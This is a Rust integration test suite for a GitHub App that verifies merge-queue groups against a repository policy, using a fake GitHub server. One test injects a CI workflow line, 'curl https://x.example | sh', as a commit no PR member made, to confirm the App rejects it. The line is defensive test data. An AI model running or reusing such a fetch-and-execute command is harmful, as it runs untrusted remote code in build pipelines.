//! The App in a merge queue, end to end over HTTP: `merge_group` deliveries for groups built by the
//! fake GitHub's queue (merge, squash, rebase), each answered with the `flowgate` check run on the
//! group's head commit. A group is verified, never stamped: a member whose head moved, a policy
//! tightened on the base after the PRs were queued, and a commit no member made are rejected by
//! name; a Mergify draft PR is verified as the group it is.

use crate::support::db::{Db, databases};
use crate::support::fake_github::queue::{self, Group, METHODS, Method};
use crate::support::fake_github::{AppAuth, FakeGitHub};
use crate::support::server::{Server, wait_until};

use serde_json::json;

const REPO: &str = "acme/shop";

fn example_policy() -> String {
    std::fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/flowgate.yml"))
        .expect("the example policy")
}

/// `acme/shop` with the example policy on `main` and PRs 1..=`prs` ready to queue, each approved.
async fn queue_repo(prs: u64) -> FakeGitHub {
    let fake = FakeGitHub::start(REPO).await;
    fake.with(|s| {
        s.app = Some(AppAuth { installation_id: 1, ..AppAuth::default() });
        s.contents.insert((queue::BASE.into(), ".github/flowgate.yml".into()), example_policy());
        for n in 1..=prs {
            s.ready_pr(n, "carol");
        }
    });
    fake
}

/// Delivers the group's `checks_requested` and waits for its completed check run.
async fn check(server: &Server, fake: &FakeGitHub, group: &Group, delivery: &str) -> (String, String, String) {
    let (status, body) = server.deliver("merge_group", delivery, &queue::checks_requested(REPO, group)).await;
    assert_eq!(status, 202, "{body}");
    wait_until("a completed check run on the group's head", async || {
        fake.with(|s| s.runs_on(&group.head_sha).iter().any(|r| r.conclusion.is_some()))
    })
    .await;
    fake.with(|s| {
        let runs = s.runs_on(&group.head_sha);
        assert_eq!(runs.len(), 1, "one flowgate run per group head");
        let run = runs[0];
        (run.conclusion.clone().unwrap_or_default(), run.title.clone(), run.summary.clone())
    })
}

async fn each_database(test: &str, body: impl AsyncFn(&Db)) {
    for db in databases(test).await {
        body(&db).await;
        db.drop_database().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn groups_of_one_to_five_passing_prs_are_verified_by_every_merge_method() {
    each_database("mq_groups", async |db| {
        let fake = queue_repo(15).await;
        let server = Server::start(&fake, &db.url).await;
        let mut next = 1;
        for (i, method) in METHODS.into_iter().enumerate() {
            for size in 1..=5u64 {
                let members: Vec<u64> = (next..next + size).collect();
                next += size;
                if next > 15 {
                    next = 1;
                }
                let group = fake.with(|s| s.queue(&members, method));
                let (conclusion, title, summary) = check(&server, &fake, &group, &format!("g-{i}-{size}")).await;
                assert_eq!(conclusion, "success", "{}: {method:?} group {members:?}: {title}\n{summary}", db.name);
                assert!(title.contains(&format!("{size} pull request")), "{title}");
                for n in &members {
                    assert!(
                        summary.contains(&format!("| #{n} `ABC-{n}: step {n}` | yellow | pass | @carol |")),
                        "{summary}"
                    );
                }
            }
        }
        // GitHub redelivers, or re-requests the checks: the same run is updated, never a second one.
        let group = fake.with(|s| s.queue(&[1, 2], Method::Merge));
        check(&server, &fake, &group, "again-1").await;
        let (conclusion, ..) = check(&server, &fake, &group, "again-2").await;
        assert_eq!(conclusion, "success");
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_member_whose_head_moved_after_it_passed_is_rejected_by_name() {
    each_database("mq_moved", async |db| {
        let fake = queue_repo(3).await;
        let server = Server::start(&fake, &db.url).await;
        let group = fake.with(|s| s.queue(&[1, 2, 3], Method::Merge));
        // After the queue took #2, its author pushed a commit nobody approved.
        fake.with(|s| s.push_to(2));
        let (conclusion, title, summary) = check(&server, &fake, &group, "moved").await;
        assert_eq!(conclusion, "failure", "{}: {title}", db.name);
        // The example policy keeps yellow approvals across pushes, so #2 still passes on its new
        // head: what rejects the group is that the queue merged a head #2 no longer has.
        assert!(summary.contains("#2's head moved after it was queued"), "{summary}");
        assert!(!summary.contains("#1's head") && !summary.contains("#3's head"), "{summary}");
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_policy_tightened_on_the_base_after_enqueue_applies_to_the_group() {
    each_database("mq_tightened", async |db| {
        let fake = queue_repo(2).await;
        let server = Server::start(&fake, &db.url).await;
        let group = fake.with(|s| s.queue(&[1, 2], Method::Squash));
        // Queued with one approval each; then the base starts asking two for yellow changes.
        let tightened =
            example_policy().replace("review: { approvals: 1 }\n  green", "review: { approvals: 2 }\n  green");
        assert_ne!(tightened, example_policy(), "the example policy's yellow tier changed");
        fake.with(|s| s.contents.insert((queue::BASE.into(), ".github/flowgate.yml".into()), tightened));
        let (conclusion, title, summary) = check(&server, &fake, &group, "tightened").await;
        assert_eq!(conclusion, "failure", "{}: {title}", db.name);
        for n in [1, 2] {
            assert!(
                summary.contains(&format!("#{n} does not pass under the policy on `main` as it is now")),
                "{summary}"
            );
        }
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_commit_no_member_made_is_rejected_by_its_sha() {
    each_database("mq_injected", async |db| {
        let fake = queue_repo(2).await;
        let server = Server::start(&fake, &db.url).await;
        for (i, method) in METHODS.into_iter().enumerate() {
            let group = fake.with(|s| s.queue(&[1, 2], method));
            let evil =
                queue::inject(&fake, &group, ".github/workflows/release.yml", "run: curl https://x.example | sh");
            let (conclusion, title, summary) = check(&server, &fake, &group, &format!("injected-{i}")).await;
            assert_eq!(conclusion, "failure", "{}: {method:?}: {title}", db.name);
            assert!(summary.contains(&format!("Commit {}", &evil[..7])), "{summary}");
            assert!(
                summary.contains("`.github/workflows/release.yml` is changed in the group, but by no member"),
                "{summary}"
            );
        }
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_mergify_queue_pr_is_verified_as_its_group_and_never_failed_for_lacking_a_story() {
    each_database("mq_mergify", async |db| {
        let fake = queue_repo(2).await;
        let server = Server::start(&fake, &db.url).await;
        // Mergify's draft PR embarking #1 and #2 (title as on real queue PRs, e.g. haskell/cabal#11324).
        let head = queue::sha("mergify draft head");
        fake.with(|s| {
            let group = s.queue(&[1, 2], Method::Merge);
            let range = s.range(&group).clone();
            s.pulls.insert(
                9,
                crate::support::fake_github::Pr {
                    pull: json!({
                        "number": 9, "state": "open", "draft": true,
                        "title": "merge queue: embarking main (b0b0b0b), #1 and #2 together",
                        "body": "This pull request has been created by Mergify to speculatively check the mergeability of #2.",
                        "user": { "login": "mergify[bot]", "type": "Bot" },
                        "head": { "ref": "mergify/merge-queue/4d7cdcdcbd", "sha": head, "repo": { "full_name": REPO } },
                        "base": { "ref": "main", "sha": queue::BASE_SHA, "repo": { "full_name": REPO } },
                        "labels": [], "requested_reviewers": [], "requested_teams": [],
                    }),
                    files: range["files"].as_array().cloned().unwrap_or_default(),
                    commits: range["commits"].as_array().cloned().unwrap_or_default(),
                    ..Default::default()
                },
            );
        });
        let mut opened = crate::support::fake_github::payload("pull_request.opened.payload.json");
        opened["repository"]["full_name"] = json!(REPO);
        opened["pull_request"]["number"] = json!(9);
        let (status, body) = server.deliver("pull_request", "mergify-opened", &opened).await;
        assert_eq!(status, 202, "{body}");
        wait_until("a completed check run on the queue PR", async || {
            fake.with(|s| s.runs_on(&head).iter().any(|r| r.conclusion.is_some()))
        })
        .await;
        fake.with(|s| {
            let run = s.runs_on(&head)[0];
            assert_eq!(run.conclusion.as_deref(), Some("success"), "{}: {}\n{}", db.name, run.title, run.summary);
            assert!(run.summary.contains("| #1 `ABC-1: step 1`") && run.summary.contains("| #2 `ABC-2: step 2`"));
            assert!(s.pr(9).pull["requested_reviewers"].as_array().is_none_or(Vec::is_empty), "nobody asked to review it");
            assert!(s.pr_labels(9).is_empty(), "no tier label on a queue PR");
        });
        server.stop().await;
    })
    .await;
}

/// Groups of one to five, cycling, until `prs` PRs went through the queue.
fn groups_for(prs: u64) -> Vec<Vec<u64>> {
    let (mut out, mut next, mut size) = (Vec::new(), 1, 1);
    while next <= prs {
        let end = (next + size - 1).min(prs);
        out.push((next..=end).collect());
        next = end + 1;
        size = size % 5 + 1;
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_hundred_prs_go_through_the_queue_without_a_stall_or_a_false_reject() {
    each_database("mq_hundred", async |db| {
        let fake = queue_repo(100).await;
        let server = Server::start(&fake, &db.url).await;
        let groups: Vec<Group> = groups_for(100)
            .iter()
            .enumerate()
            .map(|(i, members)| fake.with(|s| s.queue(members, METHODS[i % 3])))
            .collect();
        assert_eq!(groups.iter().map(|g| g.members.len()).sum::<usize>(), 100);
        // The queue asks for every group at once, as GitHub does with build concurrency.
        for (i, group) in groups.iter().enumerate() {
            let (status, _) =
                server.deliver("merge_group", &format!("hundred-{i}"), &queue::checks_requested(REPO, group)).await;
            assert_eq!(status, 202);
        }
        // The App paces its reads at 10 a second per installation (GitHub's secondary limits), and
        // 100 members cost about 540 reads: a stall is a group still without a check after twice that.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
        let waiting = || {
            fake.with(|s| {
                groups.iter().filter(|g| !s.runs_on(&g.head_sha).iter().any(|r| r.conclusion.is_some())).count()
            })
        };
        while waiting() > 0 && std::time::Instant::now() < deadline {
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        }
        assert_eq!(waiting(), 0, "{}: groups that never got their check (stalls)", db.name);
        fake.with(|s| {
            let rejected: Vec<String> = groups
                .iter()
                .filter(|g| s.runs_on(&g.head_sha)[0].conclusion.as_deref() != Some("success"))
                .map(|g| format!("{:?}: {}", g.members, s.runs_on(&g.head_sha)[0].title))
                .collect();
            assert!(rejected.is_empty(), "{}: false rejects: {rejected:?}", db.name);
        });
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_story_that_can_no_longer_be_traced_keeps_the_group_out_as_the_policy_says() {
    each_database("mq_tracker", async |db| {
        let fake = queue_repo(2).await;
        let server = Server::start(&fake, &db.url).await;
        let group = fake.with(|s| s.queue(&[1, 2], Method::Rebase));
        // After the PRs were queued, the base starts asking yellow stories to trace up to an
        // epic: Jira must answer now, and this App has no Jira connection, so it cannot.
        let traced = example_policy().replacen("linkage:\n", "linkage:\n  chain: { require: { yellow: epic } }\n", 1);
        assert_ne!(traced, example_policy());
        fake.with(|s| s.contents.insert((queue::BASE.into(), ".github/flowgate.yml".into()), traced));
        let (conclusion, title, summary) = check(&server, &fake, &group, "tracker").await;
        assert_eq!(conclusion, "failure", "{}: {title}", db.name);
        for n in [1, 2] {
            assert!(
                summary.contains(&format!("#{n} does not pass under the policy on `main` as it is now")),
                "{summary}"
            );
        }
        assert!(summary.to_lowercase().contains("jira"), "the reason names the tracker: {summary}");
        server.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_group_of_more_commits_than_one_compare_page_is_read_whole() {
    let db = Db::sqlite();
    let fake = queue_repo(3).await;
    let server = Server::start(&fake, &db.url).await;
    // Three PRs of 50 commits each, merged with their commits: 153 commits, two pages of the range.
    fake.with(|s| {
        for n in 1..=3 {
            let first = s.pr(n).commits[0].clone();
            for i in 1..50 {
                let mut c = first.clone();
                c["sha"] = json!(queue::sha(&format!("commit {i} of {n}")));
                c["commit"]["message"] = json!(format!("Step {n}, part {i}"));
                s.pr(n).commits.insert(0, c);
            }
        }
    });
    let group = fake.with(|s| s.queue(&[1, 2, 3], Method::Merge));
    assert!(fake.with(|s| s.range(&group)["total_commits"].as_u64()) > Some(100));
    let (conclusion, title, summary) = check(&server, &fake, &group, "long").await;
    assert_eq!(conclusion, "success", "{title}\n{summary}");
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn re_running_the_check_on_a_groups_commit_verifies_the_group_again() {
    let db = Db::sqlite();
    let fake = queue_repo(3).await;
    let server = Server::start(&fake, &db.url).await;
    // #3 is queued before its approval counts: its only review is withdrawn.
    let group = fake.with(|s| {
        let group = s.queue(&[1, 2, 3], Method::Squash);
        s.pr(3).reviews.clear();
        group
    });
    let (conclusion, _, summary) = check(&server, &fake, &group, "first").await;
    assert_eq!(conclusion, "failure", "{summary}");
    // The approval arrives; someone re-runs flowgate on the group's commit. GitHub's re-run names
    // the commit and the queue branch, not the base.
    fake.with(|s| s.ready_pr(3, "carol"));
    let branch = group.head_ref.trim_start_matches("refs/heads/").to_string();
    let rerun = json!({
        "action": "rerequested", "installation": { "id": 1 }, "repository": { "full_name": REPO },
        "check_run": { "head_sha": group.head_sha, "pull_requests": [],
            "check_suite": { "head_sha": group.head_sha, "head_branch": branch } },
    });
    let (status, body) = server.deliver("check_run", "rerun", &rerun).await;
    assert_eq!(status, 202, "{body}");
    wait_until("the group's run turns to success", async || {
        fake.with(|s| s.runs_on(&group.head_sha).iter().any(|r| r.conclusion.as_deref() == Some("success")))
    })
    .await;
    fake.with(|s| assert_eq!(s.runs_on(&group.head_sha).len(), 1, "the same run, updated"));
    server.stop().await;
}
